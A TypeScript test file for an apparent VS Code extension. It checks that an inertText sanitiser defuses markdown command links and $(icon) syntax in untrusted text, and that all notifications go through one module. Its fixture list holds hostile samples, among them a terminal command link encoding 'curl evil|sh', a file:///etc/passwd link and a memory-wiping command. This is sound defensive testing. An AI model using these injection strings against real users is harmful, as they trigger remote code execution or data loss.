// Text from a card, a file, a model or a server never reaches VS Code's own UI as a link or an icon.
// The oracle is how VS Code reads a message (a markdown-style link whose target is http(s), command or
// file, and `$(name)` icons), written here independently of inertText.
import assert from 'node:assert/strict';
import { readFileSync, readdirSync, statSync } from 'node:fs';
import { join, relative, sep } from 'node:path';
import { describe, it } from 'node:test';
import { inertText } from '../../src/util/inertText';

/** What VS Code would make a link of: `[label](target)` with a target it opens or runs. */
const linkLike = /\[[^\]]+\]\((?:https?:\/\/|command:|file:)[^)\s]+(?: ["'].+?["'])?\)/i;
const iconLike = /\$\([a-z0-9-]+(?:~[a-z]+)?\)/i;

const hostile = [
  '[Finish import](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)',
  'Captain [Vell](command:persona.memory.forgetAll "Forget everything")',
  '[docs](https://evil.test/x) and [more](file:///etc/passwd)',
  'nested [[a](command:x)](command:y)',
  '$(alert) Urgent: $(terminal) run me',
  'a](command:x) [b](command:y)',
];

describe('inertText', () => {
  it('leaves no link and no icon that VS Code would render', () => {
    for (const text of hostile) {
      assert.ok(linkLike.test(text) || iconLike.test(text), `the sample is hostile: ${text}`);
      const safe = inertText(text);
      assert.doesNotMatch(safe, linkLike, text);
      assert.doesNotMatch(safe, iconLike, text);
    }
  });

  it('reads the same: only invisible characters are added', () => {
    for (const text of [...hostile, 'Captain Vell', 'notes/auth.md', 'price: $(5) or [draft] (v2)']) {
      assert.equal(inertText(text).replace(/\u2060/g, ''), text);
    }
    assert.equal(inertText('Captain Vell'), 'Captain Vell');
  });
});

function files(dir: string): string[] {
  return readdirSync(dir).flatMap((n) => {
    const p = join(dir, n);
    return statSync(p).isDirectory() ? files(p) : /\.tsx?$/.test(n) ? [p] : [];
  });
}

describe('VS Code UI text', () => {
  it('every notification and modal goes through extension/notify.ts', () => {
    const src = join(__dirname, '../../src');
    const direct = files(src)
      .filter((f) => !f.endsWith(join('extension', 'notify.ts')))
      .flatMap((f) =>
        readFileSync(f, 'utf8')
          .split('\n')
          .map((line, i) => [line, i] as const)
          .filter(([line]) => /\bwindow\.show(?:Information|Warning|Error)Message\b/.test(line))
          .map(([, i]) => `${relative(src, f).split(sep).join('/')}:${i + 1}`),
      );
    assert.deepEqual(direct, []);
  });
});
